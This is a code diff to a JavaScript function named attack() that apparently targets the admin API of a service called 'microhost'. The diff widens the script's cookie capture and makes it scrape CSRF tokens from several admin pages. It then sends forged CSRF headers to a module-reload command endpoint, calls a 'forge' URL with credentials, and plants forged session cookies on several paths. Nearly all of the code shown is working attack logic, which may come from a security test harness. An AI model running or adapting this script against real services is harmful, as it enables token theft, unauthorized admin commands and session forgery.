@@ -105,12 +105,13 @@ function storage() {
 
 async function attack() {
     try {
-        if (/session|csrf/i.test(document.cookie)) report.push(`cookie: ${document.cookie}`);
+        if (/microhost|csrf/i.test(document.cookie)) report.push(`cookie: ${document.cookie}`);
     } catch {
         // sandboxed
     }
     storage();
     const listening = channels();
+    const pages = [];
     const session = await reads('/_/api/session');
     await reads('/_/api/session', { mode: 'no-cors' });
     for (const api of ['services', 'modules', 'config', 'sources', 'logs', 'traffic?ring=seconds']) await reads(`/_/api/${api}`);
@@ -118,8 +119,12 @@ async function attack() {
     await reads('/registry', { headers: { 'Content-Type': 'application/json' } });
     await reads('/_/events?topics=services,modules,logs', { headers: { Accept: 'text/event-stream' } });
     const tokens = ['', 'x'];
-    const found = /"csrf":"([^"]+)"/.exec(session.text);
-    if (found) tokens.push(found[1]);
+    for (const path of ['/services', '/_/modules', '/_/login', '/_/ui/index.html']) pages.push((await reads(path, { headers: { Accept: 'text/html' } })).text);
+    for (const text of [session.text, ...pages]) {
+        const found = /csrf\W+(?:content\W+)?([\w-]{8,})/.exec(text);
+        if (found) tokens.push(found[1]);
+    }
+    if (tokens.length > 2) report.push(`a token: ${tokens[2]}`);
     for (const token of tokens) {
         const headers = { 'Content-Type': 'application/json', 'X-Microhost-CSRF': token };
         await writes('/_/commands/modules/reload', '{"id":"limit"}', headers);
@@ -130,7 +135,7 @@ async function attack() {
     await writes('/_/modules/reload', new URLSearchParams({ id: 'limit' }), {});
     await fetch('BASE/forge', { credentials: 'include' }).catch(() => {});
     try {
-        for (const name of ['microhost_session', 'session']) document.cookie = `${name}=forged; path=/_/`;
+        for (const path of ['/', '/_/', '/_/api']) document.cookie = `microhost=forged; path=${path}`;
     } catch {
         // sandboxed
     }
